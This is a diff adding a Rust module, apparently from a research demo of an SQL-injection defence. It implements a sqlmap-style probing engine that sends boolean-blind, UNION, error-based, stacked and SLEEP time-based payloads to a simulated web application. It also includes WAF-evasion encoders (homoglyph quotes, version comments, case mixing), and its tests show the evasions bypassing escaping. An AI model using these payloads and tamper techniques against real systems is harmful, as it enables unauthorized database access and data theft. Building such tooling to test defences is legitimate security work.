@@ -1,0 +1,310 @@
+//! A sqlmap-style probing engine (the demo uses sqlmap as the attacker's
+//! tool). Generates the classic probe families — boolean-blind pairs,
+//! UNION column sweeps, error-based and stacked probes — with the evasion
+//! encoders ("tamper scripts") relevant to the demo, and drives them
+//! against a deployed application to decide whether a parameter is
+//! injectable.
+
+use septic_http::HttpRequest;
+use septic_webapp::deployment::Deployment;
+
+/// Injection techniques probed.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Technique {
+    BooleanBlind,
+    UnionBased,
+    ErrorBased,
+    Stacked,
+    TimeBased,
+}
+
+impl std::fmt::Display for Technique {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let s = match self {
+            Technique::BooleanBlind => "boolean-blind",
+            Technique::UnionBased => "UNION-based",
+            Technique::ErrorBased => "error-based",
+            Technique::Stacked => "stacked",
+            Technique::TimeBased => "time-based",
+        };
+        f.write_str(s)
+    }
+}
+
+/// Payload encoders (sqlmap tamper-script analogues).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Encoder {
+    /// No transformation.
+    Plain,
+    /// ASCII quotes replaced by `U+02BC` (the semantic-mismatch tamper).
+    HomoglyphQuote,
+    /// SQL keywords wrapped in executable version comments.
+    VersionComment,
+    /// Random-looking (deterministic) case mixing.
+    CaseMix,
+}
+
+/// Applies an encoder to a payload.
+#[must_use]
+pub fn encode(payload: &str, encoder: Encoder) -> String {
+    match encoder {
+        Encoder::Plain => payload.to_string(),
+        Encoder::HomoglyphQuote => payload.replace('\'', "\u{02BC}"),
+        Encoder::VersionComment => {
+            let mut out = payload.to_string();
+            for kw in ["UNION", "SELECT", "FROM", "WHERE", "AND", "OR"] {
+                out = out.replace(&format!(" {kw} "), &format!(" /*!{kw}*/ "));
+            }
+            out
+        }
+        Encoder::CaseMix => payload
+            .chars()
+            .enumerate()
+            .map(|(i, c)| {
+                if i % 2 == 0 {
+                    c.to_ascii_uppercase()
+                } else {
+                    c.to_ascii_lowercase()
+                }
+            })
+            .collect(),
+    }
+}
+
+/// A generated probe.
+#[derive(Debug, Clone)]
+pub struct Probe {
+    pub technique: Technique,
+    pub encoder: Encoder,
+    /// The parameter value to send.
+    pub value: String,
+    /// For boolean pairs: the FALSE branch value (responses must differ).
+    pub false_value: Option<String>,
+    /// For union/error probes: marker expected in the response body.
+    pub marker: Option<String>,
+}
+
+/// Generates probes for a *numeric-context* parameter (sent as
+/// `<benign><payload>`). Deterministic: same list every call.
+#[must_use]
+pub fn numeric_probes(encoders: &[Encoder]) -> Vec<Probe> {
+    let mut probes = Vec::new();
+    for &encoder in encoders {
+        probes.push(Probe {
+            technique: Technique::BooleanBlind,
+            encoder,
+            value: encode("0 OR 7=7", encoder),
+            false_value: Some(encode("0 AND 7=8", encoder)),
+            marker: None,
+        });
+        for cols in 1..=4usize {
+            // Numeric context: the application's escaping would mangle a
+            // quoted marker, so the marker is a distinctive number — the
+            // same trick sqlmap's casting tampers use.
+            let marker = format!("73376{cols}1");
+            let mut fields = vec![marker.clone()];
+            fields.extend((1..cols).map(|i| i.to_string()));
+            probes.push(Probe {
+                technique: Technique::UnionBased,
+                encoder,
+                value: encode(
+                    &format!("0 UNION SELECT {} FROM users-- ", fields.join(", ")),
+                    encoder,
+                ),
+                false_value: None,
+                marker: Some(marker),
+            });
+        }
+        probes.push(Probe {
+            technique: Technique::Stacked,
+            encoder,
+            value: encode("0; SELECT 1-- ", encoder),
+            false_value: None,
+            marker: None,
+        });
+        probes.push(Probe {
+            technique: Technique::TimeBased,
+            encoder,
+            value: encode("0 OR SLEEP(3)", encoder),
+            false_value: None,
+            marker: None,
+        });
+    }
+    probes
+}
+
+/// Generates probes for a *quoted string* parameter.
+#[must_use]
+pub fn string_probes(encoders: &[Encoder]) -> Vec<Probe> {
+    let mut probes = Vec::new();
+    for &encoder in encoders {
+        probes.push(Probe {
+            technique: Technique::ErrorBased,
+            encoder,
+            value: encode("x'", encoder),
+            false_value: None,
+            marker: Some("Query failed".to_string()),
+        });
+        probes.push(Probe {
+            technique: Technique::BooleanBlind,
+            encoder,
+            value: encode("x' OR 'a'='a", encoder),
+            false_value: Some(encode("x' AND 'a'='b", encoder)),
+            marker: None,
+        });
+        for cols in 1..=4usize {
+            let marker = format!("sqm{cols}s");
+            let mut fields = vec![format!("'{marker}'")];
+            fields.extend((1..cols).map(|i| i.to_string()));
+            probes.push(Probe {
+                technique: Technique::UnionBased,
+                encoder,
+                value: encode(
+                    &format!("zz' UNION SELECT {} FROM users-- ", fields.join(", ")),
+                    encoder,
+                ),
+                false_value: None,
+                marker: Some(marker),
+            });
+        }
+    }
+    probes
+}
+
+/// Scan verdict for one parameter.
+#[derive(Debug, Clone, Default)]
+pub struct ScanReport {
+    pub probes_sent: usize,
+    /// Techniques (with their encoder) that demonstrated injectability.
+    pub findings: Vec<(Technique, Encoder)>,
+    /// Probes answered with HTTP 403 (WAF) or a blocked-query error.
+    pub blocked: usize,
+}
+
+impl ScanReport {
+    /// True when any technique worked.
+    #[must_use]
+    pub fn vulnerable(&self) -> bool {
+        !self.findings.is_empty()
+    }
+}
+
+/// Drives a probe set against one parameter of a base request.
+#[must_use]
+pub fn scan_param(
+    deployment: &Deployment,
+    base: &HttpRequest,
+    param: &str,
+    probes: &[Probe],
+) -> ScanReport {
+    let mut report = ScanReport::default();
+    let baseline = deployment.request(base);
+    for probe in probes {
+        let mut req = base.clone();
+        req.set_param(param, probe.value.clone());
+        let delay_before = deployment.server().simulated_delay_total();
+        let resp = deployment.request(&req);
+        report.probes_sent += 1;
+        if resp.waf_blocked() || resp.response.body.contains("query blocked") {
+            report.blocked += 1;
+            continue;
+        }
+        let hit = match probe.technique {
+            Technique::TimeBased => {
+                // Deterministic blind-timing oracle: the server accounts
+                // requested SLEEP/BENCHMARK time instead of stalling;
+                // sqlmap's wall-clock threshold maps to a delta check.
+                deployment.server().simulated_delay_total() - delay_before
+                    >= std::time::Duration::from_secs(2)
+            }
+            Technique::BooleanBlind => {
+                let Some(false_value) = &probe.false_value else { continue };
+                let mut false_req = base.clone();
+                false_req.set_param(param, false_value.clone());
+                let false_resp = deployment.request(&false_req);
+                report.probes_sent += 1;
+                // TRUE branch yields strictly more content than both the
+                // FALSE branch and the baseline.
+                resp.response.body.len() > false_resp.response.body.len()
+                    && resp.response.body.len() > baseline.response.body.len()
+            }
+            Technique::UnionBased | Technique::ErrorBased => probe
+                .marker
+                .as_ref()
+                .is_some_and(|m| resp.response.body.contains(m)),
+            Technique::Stacked => resp.response.is_success()
+                && !resp.response.body.contains("Query failed"),
+        };
+        if hit && !report.findings.contains(&(probe.technique, probe.encoder)) {
+            report.findings.push((probe.technique, probe.encoder));
+        }
+    }
+    report
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use septic_webapp::WaspMon;
+    use std::sync::Arc;
+
+    fn deploy() -> Deployment {
+        Deployment::new(Arc::new(WaspMon::new()), None, None).expect("deploy")
+    }
+
+    #[test]
+    fn encoders_transform_deterministically() {
+        assert_eq!(encode("a'b", Encoder::HomoglyphQuote), "a\u{02BC}b");
+        assert_eq!(
+            encode("x UNION SELECT 1", Encoder::VersionComment),
+            "x /*!UNION*/ /*!SELECT*/ 1"
+        );
+        assert_eq!(encode("union", Encoder::CaseMix), "UnIoN");
+        assert_eq!(encode("same", Encoder::Plain), "same");
+    }
+
+    #[test]
+    fn numeric_param_is_found_vulnerable() {
+        let d = deploy();
+        let base = HttpRequest::get("/history")
+            .param("device", "Kitchen Meter")
+            .param("days", "0");
+        let probes = numeric_probes(&[Encoder::Plain]);
+        let report = scan_param(&d, &base, "days", &probes);
+        assert!(report.vulnerable(), "{report:?}");
+        assert!(report
+            .findings
+            .iter()
+            .any(|(t, _)| *t == Technique::BooleanBlind));
+        assert!(report
+            .findings
+            .iter()
+            .any(|(t, _)| *t == Technique::UnionBased));
+        assert!(
+            report.findings.iter().any(|(t, _)| *t == Technique::TimeBased),
+            "the SLEEP probe must register through the delay oracle: {report:?}"
+        );
+    }
+
+    #[test]
+    fn quoted_param_resists_plain_but_falls_to_homoglyph() {
+        let d = deploy();
+        let base = HttpRequest::get("/history")
+            .param("device", "Kitchen Meter")
+            .param("days", "0");
+        let plain = scan_param(&d, &base, "device", &string_probes(&[Encoder::Plain]));
+        assert!(!plain.vulnerable(), "escaping stops ASCII quotes: {plain:?}");
+        let homoglyph =
+            scan_param(&d, &base, "device", &string_probes(&[Encoder::HomoglyphQuote]));
+        assert!(homoglyph.vulnerable(), "{homoglyph:?}");
+    }
+
+    #[test]
+    fn probe_sets_are_nonempty_and_deterministic() {
+        let a = numeric_probes(&[Encoder::Plain, Encoder::VersionComment]);
+        let b = numeric_probes(&[Encoder::Plain, Encoder::VersionComment]);
+        assert_eq!(a.len(), b.len());
+        assert!(a.len() >= 12);
+        assert!(string_probes(&[Encoder::Plain]).len() >= 6);
+    }
+}
